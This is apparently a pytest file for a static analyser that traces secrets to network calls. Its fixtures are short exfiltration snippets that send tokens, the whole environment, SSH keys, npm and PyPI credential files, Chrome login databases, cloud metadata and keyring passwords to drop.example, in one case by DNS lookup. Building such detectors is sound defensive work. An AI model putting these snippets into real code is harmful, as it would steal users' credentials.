"""A local data flow leads from secrets to the calls that send them away."""

from __future__ import annotations

import pytest

from tests.worker.inspection.facts.told import of_python, told

SENT = "requests.post -> drop.example"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(
            "import os, requests\nrequests.post('https://drop.example', data=os.environ['NPM_TOKEN'])",
            f"2 network {SENT} <- environment 2 NPM_TOKEN",
            id="a variable of the environment",
        ),
        pytest.param(
            "import os, requests\ntoken = os.getenv('NPM_TOKEN', '')\nbody = {'t': f'x{token}'}\n"
            "requests.post('https://drop.example', json=body)",
            f"4 network {SENT} <- environment 2 NPM_TOKEN",
            id="a variable inside a text inside a dictionary",
        ),
        pytest.param(
            "import os, requests, json\nrequests.post('https://drop.example', data=json.dumps(dict(os.environ)))",
            f"2 network {SENT} <- environment 2 *",
            id="the whole environment",
        ),
        pytest.param(
            "import os, requests\nfound = {}\nfor key, value in os.environ.items():\n    found[key] = value\n"
            "requests.post('https://drop.example', json=found)",
            f"5 network {SENT} <- environment 3 *",
            id="the whole environment, one by one",
        ),
        pytest.param(
            "import os, requests\nrequests.post('https://drop.example', json={k: v for k, v in os.environ.items()})",
            f"2 network {SENT} <- environment 2 *",
            id="the whole environment, in a comprehension",
        ),
        pytest.param(
            "import os, urllib.request\nrequest = urllib.request.Request('https://drop.example',\n"
            "    data=os.environ['NPM_TOKEN'].encode())\nurllib.request.urlopen(request)",
            "4 network urllib.request.urlopen -> drop.example <- environment 3 NPM_TOKEN",
            id="through a request object",
        ),
        pytest.param(
            "import os, http.client\nc = http.client.HTTPSConnection('drop.example')\n"
            "c.request('POST', '/', os.getenv('NPM_TOKEN'))",
            "3 network http.client.HTTPSConnection.request -> drop.example <- environment 3 NPM_TOKEN",
            id="over a connection that was opened before",
        ),
        pytest.param(
            "import os, socket\nsocket.gethostbyname(os.environ['NPM_TOKEN'] + '.drop.example')",
            "2 network socket.gethostbyname -> drop.example <- environment 2 NPM_TOKEN",
            id="in the name of a host",
        ),
        pytest.param(
            "import os, requests\nfor path in ['~/.npmrc', '~/.pypirc']:\n"
            "    with open(os.path.expanduser(path)) as file:\n"
            "        requests.post('https://drop.example', data=file.read())",
            f"4 network {SENT} <- credential-file 3 ~/.npmrc <- credential-file 3 ~/.pypirc",
            id="files of a list",
        ),
        pytest.param(
            "import pathlib, requests\nfound = []\nfor name in ('id_rsa', 'id_ed25519'):\n"
            "    found.append((pathlib.Path.home() / '.ssh' / name).read_text())\n"
            "requests.post('https://drop.example', json=found)",
            f"5 network {SENT} <- credential-file 4 ~/.ssh/id_ed25519 <- credential-file 4 ~/.ssh/id_rsa",
            id="files that are gathered first",
        ),
        pytest.param(
            "import os, requests\ndef collect():\n    found = {}\n"
            "    found['npm'] = open(os.path.expanduser('~/.npmrc')).read()\n    return found\n"
            "def send(data):\n    requests.post('https://drop.example', json=data)\nsend(collect())",
            f"7 network {SENT} <- credential-file 4 ~/.npmrc",
            id="through two functions",
        ),
        pytest.param(
            "import os, requests, threading\ndef send(data):\n    requests.post('https://drop.example', data=data)\n"
            "threading.Thread(target=send, args=(os.environ['GH_TOKEN'],)).start()",
            f"3 network {SENT} <- environment 4 GH_TOKEN",
            id="into a thread",
        ),
        pytest.param(
            "import os, requests\nclass Client:\n    def __init__(self):\n        self.token = os.environ['X_TOKEN']\n"
            "    def send(self):\n        requests.post('https://drop.example', data=self.token)",
            f"6 network {SENT} <- environment 4 X_TOKEN",
            id="through an attribute",
        ),
        pytest.param(
            "import os, shutil, sqlite3, requests\n"
            "path = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
            "shutil.copy2(path, 'copy.db')\nrows = sqlite3.connect('copy.db').execute('select').fetchall()\n"
            "requests.post('https://drop.example', json=rows)",
            f"5 network {SENT} <- credential-file 3 %LOCALAPPDATA%/Google/Chrome/User Data/Default/Login Data"
            " <- file 4 copy.db",
            id="through a copy of the file",
        ),
        pytest.param(
            "import zipfile, os, requests\nz = zipfile.ZipFile('out.zip', 'w')\n"
            "z.write(os.path.expanduser('~/.ssh/id_rsa'))\n"
            "requests.post('https://drop.example', files={'f': open('out.zip', 'rb')})",
            f"4 network {SENT} <- credential-file 3 ~/.ssh/id_rsa <- file 4 out.zip",
            id="through an archive",
        ),
        pytest.param(
            "import subprocess, requests\nprinted = subprocess.check_output('cat ~/.npmrc', shell=True)\n"
            "requests.post('https://drop.example', data=printed)",
            f"3 network {SENT} <- credential-file 2 ~/.npmrc <- process 2 subprocess.check_output",
            id="printed by another program",
        ),
        pytest.param(
            "import requests\ntoken = requests.get('http://169.254.169.254/latest/meta-data/iam').text\n"
            "requests.post('https://drop.example', data=token)",
            f"3 network {SENT} <- metadata-service 2 169.254.169.254",
            id="from the metadata service",
        ),
        pytest.param(
            "import keyring, requests\nrequests.post('https://drop.example', data=keyring.get_password('a', 'b'))",
            f"2 network {SENT} <- credential-file 2 the keyring",
            id="from the keyring",
        ),
    ],
)
def test_secrets_that_are_sent_away(source: str, expected: str) -> None:
    assert expected in told(of_python(source))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(
            "import os, subprocess\nenv = os.environ.copy()\nenv['A'] = 'b'\nsubprocess.run(['tool'], env=env)",
            ["4 process subprocess.run"],
            id="the environment that a program inherits",
        ),
        pytest.param(
            "import os, requests\nfrom settings import Settings\nsettings = Settings(os.environ)\n"
            "requests.get('https://api.example', headers=settings.headers)",
            ["4 network requests.get -> api.example"],
            id="the environment that settings are read from",
        ),
        pytest.param(
            "import os, requests\nhome = os.environ['HOME']\nrequests.get('https://api.example', cert=home + '/a.pem')",
            ["2 environment HOME", "3 network requests.get -> api.example"],
            id="a folder is no secret",
        ),
        pytest.param(
            "import os, requests, hashlib\nrequests.post('https://api.example',\n"
            "    data=hashlib.sha256(os.environ['A_TOKEN'].encode()).hexdigest())",
            ["2 network requests.post -> api.example", "3 environment A_TOKEN"],
            id="a hash says nothing of what went in",
        ),
        pytest.param(
            "import os, requests\ndata = os.environ['A_TOKEN']\nlogin(data)\ndata = 'hello'\n"
            "requests.post('https://api.example', data=data)",
            ["2 environment A_TOKEN", "5 network requests.post -> api.example"],
            id="the variable holds something else by then",
        ),
        pytest.param(
            "import requests\ndef read(path):\n    return open(path).read()\nread('~/.npmrc')\n"
            "requests.post('https://api.example', data=read('notes.txt'))",
            [
                "3 file-read ~/.npmrc",
                "3 credential-file ~/.npmrc",
                "3 file-read notes.txt",
                "5 network requests.post -> api.example <- file 3 notes.txt",
            ],
            id="one function reads a secret for one caller and a note for another",
        ),
        pytest.param(
            "import requests, ssl, os\nrequests.get('https://api.example', verify=os.environ['CA'], timeout=3)",
            ["2 network requests.get -> api.example", "2 environment CA"],
            id="settings of the call are not sent",
        ),
    ],
)
def test_data_that_goes_elsewhere_does_not_count(source: str, expected: list[str]) -> None:
    assert told(of_python(source)) == expected
